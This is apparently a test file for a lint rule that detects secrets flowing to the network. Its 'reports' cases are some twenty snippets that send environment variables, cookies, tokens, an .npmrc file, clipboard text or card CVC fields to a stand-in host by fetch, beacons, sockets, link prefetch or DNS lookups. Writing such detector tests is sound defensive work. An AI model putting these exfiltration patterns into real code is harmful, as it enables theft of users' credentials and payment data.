import { describeRule } from '../testing/describe-rule.ts';
import { secretToNetwork } from './secret-to-network.ts';

describeRule(secretToNetwork, {
  reports: {
    'a client that was made for an address':
      "import axios from 'axios';\nconst http = axios.create({ baseURL: 'https://x.example' });\nhttp.post('/in', { env: process.env });",
    'the state of a store':
      "export const store = { state: () => ({ token: localStorage.getItem('t') }), actions: { ping() { return fetch('https://x.example/?' + this.token); } } };",

    'an object rest':
      "const { a, ...rest } = process.env;\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(rest) });",
    'a reducer':
      "const s = Object.entries(process.env).reduce((a, [k, v]) => a + k + v, '');\nfetch('https://x.example/?' + s);",
    'a closure':
      "let held;\nfunction take() { held = document.cookie; }\nfunction give() { navigator.sendBeacon('https://x.example', held); }\ntake();\ngive();",
    'a header': "fetch('https://x.example', { headers: { 'x-trace': document.cookie } });",
    'a URL object':
      "const u = new URL('https://x.example');\nu.searchParams.set('c', document.cookie);\nfetch(u);",
    'an event':
      "addEventListener('paste', (e) => fetch('https://x.example/' + e.clipboardData.getData('text')));",
    'a file callback':
      "const fs = require('fs');\nfs.readFile('/home/a/.npmrc', 'utf8', (err, text) => { require('https').get('https://x.example/?' + text); });",
    'a link opened': "window.open('https://x.example/?' + localStorage.getItem('t'));",
    'a list of parts':
      "const parts = [];\nparts.push(document.cookie);\nnew Image().src = 'https://x.example/' + parts.join('');",
    axios: "import axios from 'axios';\naxios.post('https://x.example', { env: process.env });",
    'a socket of node':
      "const net = require('net');\nconst s = net.connect(80, 'x.example');\ns.write(JSON.stringify(process.env));",
    'a generator':
      "function* all() { yield document.cookie; }\nfor (const c of all()) fetch('https://x.example/' + c);",
    'a link element':
      "const l = document.createElement('link');\nl.rel = 'prefetch';\nl.href = 'https://x.example/' + document.cookie;",
    'an error that a listener of the page sends':
      "addEventListener('unhandledrejection', (e) => fetch('https://x.example', { method: 'POST', body: e.reason }));\nPromise.reject(document.cookie);",
    'an error that the caller catches':
      "function check() { throw new Error(document.cookie); }\nfunction inner() { check(); }\ntry { inner(); } catch (error) { fetch('https://x.example/?' + error.message); }",
    'the own address':
      "history.replaceState(null, '', '?s=' + document.cookie);\nnew Image().src = 'https://x.example/1.gif';",
    'a field that is listened to':
      "export const watch = (field) => field.addEventListener('keyup', () => (new Image().src = 'https://x.example/?' + field.value));",
    'a field under a name of its own':
      "root.addEventListener('change', (e) => { const field = e.target; if (/cvc/.test(field.name)) new Image().src = 'https://x.example/?' + field.value; });",
    'a lookup of a module of promises':
      "import dns from 'node:dns/promises';\nimport { hostname } from 'node:os';\ndns.resolve4(hostname() + '.x.example');",
    'a member of an object that is spread':
      "const all = { at: 1, ...JSON.parse(document.cookie) };\nfetch('https://x.example/?' + all.session);",
  },
  leaves: {
    'the state of a store that is shown':
      "export const store = { state: () => ({ theme: localStorage.getItem('t') }), actions: { ping() { show(this.theme); return fetch('https://x.example/'); } } };",

    'a value that is shown':
      "root.addEventListener('change', (e) => { const field = e.target; if (/cvc/.test(field.name)) show(field.value); });",
    'an error that is shown':
      "try { load(document.cookie); } catch (error) { fetch('https://x.example/?' + error.code); }",
    'an error of another function':
      "function check() { throw new Error('no session'); }\ntry { check(); } catch (error) { fetch('https://x.example/?' + error.message); }\nconst c = document.cookie;",
    'a search as one types': "field.addEventListener('input', () => fetch('/search?q=' + field.value));",
    'a page number in the own address': "history.pushState({}, '', '?page=' + page);",
    'a secret that stays': 'const c = document.cookie;\nconsole.log(c);',
    'a comparison': "const ok = document.cookie === 'a';\nfetch('https://x.example/' + ok);",
    'its length': "fetch('https://x.example/' + document.cookie.length);",
    'the own server': "fetch('/session', { method: 'POST', body: document.cookie });",
  },
});
